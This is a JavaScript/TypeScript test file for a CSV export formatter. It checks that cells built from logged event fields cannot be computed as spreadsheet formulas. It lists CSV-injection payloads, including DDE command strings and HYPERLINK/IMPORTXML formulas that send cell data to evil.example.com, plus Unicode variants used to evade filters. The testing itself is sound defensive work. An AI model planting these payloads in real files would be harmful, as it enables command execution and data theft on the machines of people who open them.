import assert from 'node:assert/strict'
import { test } from 'node:test'
import { delimitedRows } from '#/attachments/index.ts'
import { entryEvent } from '../../events.ts'
import { cell, csv } from './csv.ts'

/** What spreadsheets have been made to run. Sources: OWASP "CSV Injection"; row 13 of our list of abuse cases. */
const payloads = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example.com?x="&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.example.com/?v=",CONCATENATE(A2:E2)),"//a")',
  '+1+1',
  '-2+3+cmd|/C calc!A0',
  '@SUM(1+1)*cmd|/C calc!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '"=1+1',
  "';=1+1",
  'x";=1+1;"',
  'x",=1+1,"',
]

test('no payload becomes a cell a spreadsheet would compute, and the row keeps its columns', () => {
  const format = csv()
  const columns = format.heading?.split(',').length ?? 0
  for (const reason of payloads) {
    const head = {
      ...{ index: 1, atMs: 0, kind: 'record' as const, facts: { reason, model: reason } },
      ...{ subject: undefined, alias: undefined, header: '{}' },
    }
    const line = format.format(entryEvent('log.example.com', head, undefined))
    const [row = []] = [...delimitedRows(line)]
    const cells = row.map(({ text }) => text)
    for (const text of cells)
      assert.doesNotMatch(text, /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/u, reason)
    assert.ok(
      row.every(({ column }) => column < columns),
      reason,
    )
    assert.equal(line.split('\n').length, 1, reason)
  }
})

test('what is harmless stays as it is', () => {
  assert.equal(cell('general-assistant'), 'general-assistant')
  assert.equal(cell(-5), '-5')
  assert.equal(cell('a, b'), '"a, b"')
  assert.equal(cell(undefined), '')
})
